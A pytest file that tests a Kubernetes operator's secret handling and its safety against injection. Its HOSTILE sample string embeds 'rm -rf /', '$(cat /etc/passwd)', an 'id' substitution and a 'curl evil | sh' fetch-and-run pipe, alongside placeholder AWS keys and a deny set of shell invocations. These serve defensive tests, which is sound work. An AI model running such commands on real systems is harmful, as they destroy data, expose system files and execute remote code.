"""Secret hygiene and injection safety of what the chart and the operator's builders produce.

Credentials reach trainer containers only through ``secretKeyRef``; the operator holds no Secret
permission and no credential value appears in any rendered or built object.  Hostile spec strings
(``;``, ``$(...)``, backticks, newlines) reach the pod only as data in the config file, never in the
command, args or env (where Kubernetes would expand ``$(VAR)``).
"""

from __future__ import annotations

import json
from typing import Any

import pytest
import yaml

from tests.support import helm

HOSTILE = "classify; rm -rf / $(cat /etc/passwd) `id` ${HOME}\nnext line && curl evil | sh"
SECRET_VALUES = ("AKIAEXAMPLEKEYID0001", "wJalrXUtnFEMI/K7MDENG/bPxRfiCYSECRETKEY")
#: Kubernetes $(VAR) references the builder itself puts in args/env (expanded from the pod's own env).
OWN_REFERENCES = ("$(JOB_COMPLETION_INDEX)", "$(KUBETUNE_MASTER_ADDR)", "$(KUBETUNE_MASTER_PORT)")


def _children(manifest: dict[str, Any]) -> list[dict[str, Any]]:
    builders: Any = pytest.importorskip("kubetune_operator.builders", reason="the builders are not there yet")
    resolve: Any = pytest.importorskip("kubetune_operator.resolve")
    settings: Any = pytest.importorskip("kubetune_operator.settings")
    manifest["metadata"].setdefault("uid", "0b5c6a0e-7d3c-4c1e-9b1a-3f7e2d9c1a00")
    config = settings.OperatorSettings(
        default_checkpoint_uri="s3://kubetune-checkpoints", credentials_secret="s3-creds"
    )
    job = resolve.load_job(manifest, config)
    return list(builders.desired_children(job, attempt=2))


def _hostile_job() -> dict[str, Any]:
    manifest = yaml.safe_load((helm.REPO / "examples" / "prompt-sequence-classification.yaml").read_text())
    manifest["spec"]["strategy"]["prompt"]["initText"] = HOSTILE
    manifest["metadata"]["annotations"] = {"note": HOSTILE, "kubetune.io/evil": "$(AWS_SECRET_ACCESS_KEY)"}
    return manifest


def _containers(children: list[dict[str, Any]]) -> list[dict[str, Any]]:
    pods = [c["spec"]["template"]["spec"] for c in children if c["kind"] == "Job"]
    return [c for pod in pods for c in pod.get("initContainers", []) + pod["containers"]]


def test_hostile_spec_strings_stay_data() -> None:
    children = _children(_hostile_job())
    for container in _containers(children):
        for item in [*container.get("command", []), *container.get("args", [])]:
            assert HOSTILE not in item
            for start in range(len(item)):
                if item.startswith("$(", start):
                    assert any(item.startswith(ref, start) for ref in OWN_REFERENCES), f"unexpected $( in {item!r}"
        for env in container.get("env", []):
            value = env.get("value", "")
            assert HOSTILE not in value, f"env {env['name']} carries spec text"
            assert "$(" not in value or value in OWN_REFERENCES, f"env {env['name']}={value!r} would be expanded"
    # The text arrives intact, as one JSON string in the mounted config file.
    (config_map,) = [c for c in children if c["kind"] == "ConfigMap"]
    (document,) = config_map["data"].values()
    assert json.loads(document)["spec"]["strategy"]["prompt"]["initText"] == HOSTILE


def test_command_is_a_fixed_literal_argv() -> None:
    hostile = list(_containers(_children(_hostile_job())))
    plain_manifest = yaml.safe_load((helm.REPO / "examples" / "prompt-sequence-classification.yaml").read_text())
    plain = list(_containers(_children(plain_manifest)))
    assert [(c["command"], c["args"]) for c in hostile] == [(c["command"], c["args"]) for c in plain]
    for container in hostile:
        assert container["command"][:3] == ["python", "-m", "kubetune_trainer.launch"]
        assert not {"sh", "bash", "/bin/sh", "-c"} & set(container["command"] + container["args"])


def test_credentials_reach_the_trainer_only_through_secret_key_refs() -> None:
    children = _children(_hostile_job())
    for container in _containers(children):
        env = {e["name"]: e for e in container.get("env", [])}
        for key in ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY"):
            assert "value" not in env[key]
            assert env[key]["valueFrom"]["secretKeyRef"]["key"] == key
            assert env[key]["valueFrom"]["secretKeyRef"]["name"] == "s3-credentials"
        for source in container.get("envFrom", []):
            assert "configMapRef" not in source or "secret" not in json.dumps(source).lower()
    text = json.dumps(children)
    assert "secretKeyRef" in text
    assert not [c for c in children if c["kind"] == "Secret"], "the operator must not create Secrets"


@pytest.mark.parametrize("scenario", sorted(helm.scenarios()))
def test_chart_holds_no_credentials(scenario: str) -> None:
    values = helm.scenarios()[scenario]
    objects = helm.render(values)
    assert not helm.find(objects, "Secret"), "the chart never creates Secrets"
    container = helm.one(objects, "Deployment")["spec"]["template"]["spec"]["containers"][0]
    for env in container["env"]:
        assert not env["name"].startswith("AWS_"), "the operator itself needs no object-storage credentials"
    rendered = json.dumps(objects)
    for value in SECRET_VALUES:
        assert value not in rendered


def test_extra_env_cannot_smuggle_unknown_fields() -> None:
    import helm_python

    with pytest.raises(helm_python.HelmError):
        helm.render({"operator": {"extraEnv": [{"name": "X", "value": "1", "command": "sh"}]}})
